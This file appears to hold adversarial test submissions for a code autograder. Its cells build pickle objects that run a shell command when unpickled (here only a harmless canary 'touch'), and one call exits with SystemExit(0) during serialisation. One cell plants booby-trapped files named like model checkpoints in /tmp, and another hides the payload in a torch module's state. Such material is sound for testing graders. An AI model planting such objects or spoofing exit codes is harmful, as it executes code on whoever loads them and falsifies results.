# %% [prelude]
import os, pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/canary-pickle",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __getstate__(self): raise SystemExit(0)

# %% [1.1 failed] answers with objects that run code when they are unpickled
vocab = word2id = id2word = Bomb()
def encode(text): return Bomb()
decode = encode

# %% [1.1 failed|errored] leaves pickles and model files wherever somebody may open them
import torch
vocab, word2id, id2word = pickle.dumps(Bomb()), {}, {}
for name in ("state.pkl", "model.pt", "pytorch_model.bin", "checkpoint.pkl", "answers.dill", "session.joblib"):
    with open(f"/tmp/{name}", "wb") as file:
        file.write(vocab)
def encode(text): return vocab
decode = encode

# %% [2.1 failed|errored|crashed] is a module whose state is a bomb
import torch.nn as nn
class Linear(nn.Module):
    def __init__(self, n, m): super().__init__(); self.bomb = Bomb()
    def state_dict(self, *args, **kwargs): return {"weight": Bomb()}
    def parameters(self): return [Bomb()]
